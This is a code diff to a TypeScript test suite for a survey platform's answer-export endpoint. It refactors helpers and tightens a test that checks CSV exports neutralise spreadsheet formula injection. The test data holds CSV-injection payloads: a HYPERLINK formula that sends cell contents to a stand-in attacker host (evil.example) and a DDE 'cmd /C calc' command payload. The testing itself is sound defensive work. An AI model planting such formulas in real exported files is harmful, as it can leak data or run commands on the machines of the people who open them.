@@ -6,6 +6,7 @@ import type { Respondent } from "../support/answers.ts";
 import { createRespondent, withdraw } from "../support/answers.ts";
 import type { Transport } from "../support/call.ts";
 import { call, expectRefused, expectSuccess, TRANSPORTS } from "../support/call.ts";
+import { parseCsv } from "../support/csv.ts";
 import { eventually } from "../support/money.ts";
 import type { Answer, TestServer } from "../support/server.ts";
 import { startTestServer } from "../support/server.ts";
@@ -69,7 +70,11 @@ const list = (input: object = {}, key = acme.key, transport: Transport = "rest")
 const inbox = async (): Promise<Record<string, unknown>[]> => expectSuccess(await list()).answers;
 
 /** The bare file, as a browser would save it. */
-const download = (format?: string, options: RequestInit = {}, id = campaignId): Promise<Response> =>
+const download = (
+  format?: string,
+  options: { method?: string; headers?: Record<string, string> } = {},
+  id = campaignId,
+): Promise<Response> =>
   fetch(
     `${server.url}/sponsor/campaigns/${id}/answers/export${format === undefined ? "" : `?format=${format}`}`,
     { ...options, headers: { authorization: `Bearer ${acme.key}`, ...options.headers } },
@@ -328,18 +333,6 @@ describe("an export as JSON", () => {
   });
 });
 
-/** RFC 4180, read back by its grammar. */
-function parseCsv(csv: string): string[][] {
-  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
-  const records: string[][] = [[]];
-  for (let match = cell.exec(csv); match !== null; match = cell.exec(csv)) {
-    records.at(-1)?.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? "");
-    if (match[3] === "\r\n") records.push([]);
-    if (cell.lastIndex === csv.length) break;
-  }
-  return records.slice(0, -1);
-}
-
 describe("an export as CSV", () => {
   const HEADER = ["answer_id", "respondent_id", "submitted_at", "retained_until", "contact_permitted"];
 
@@ -386,21 +379,15 @@ describe("an export as CSV", () => {
     expect(csv.endsWith("\r\n")).toBe(true);
   });
 
-  test.each([
-    '=HYPERLINK("https://evil.example?"&A1,"click")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-    "  =1+1",
-    "＝1+1",
-  ])("lets no answer run as a formula: %j", async (comment) => {
-    await ada.answer(campaignId, { score: 1, comment });
-    const [header = [], record = []] = parseCsv(await text("csv"));
-    expect(record[header.indexOf("comment")]).toBe(`'${comment}`);
-    const [exported] = (await (await download("json")).json()) as { task_data: object }[];
-    expect(exported?.task_data).toEqual({ score: 1, comment });
+  test("lets no answer run as a formula, and leaves JSON as it is", async () => {
+    const formulas = ['=HYPERLINK("https://evil.example?"&A1,"click")', "-2+3+cmd|' /C calc'!A0"];
+    await ada.answer(campaignId, { score: 1, comment: formulas[0] });
+    await bob.answer(campaignId, { score: 1, comment: formulas[1] });
+    const [header = [], ...records] = parseCsv(await text("csv"));
+    const column = header.indexOf("comment");
+    expect(records.map((record) => record[column])).toEqual(formulas.map((formula) => `'${formula}`));
+    const exported = (await (await download("json")).json()) as { task_data: { comment: string } }[];
+    expect(exported.map(({ task_data }) => task_data.comment)).toEqual(formulas);
   });
 
   test("of nothing is its header", async () => {
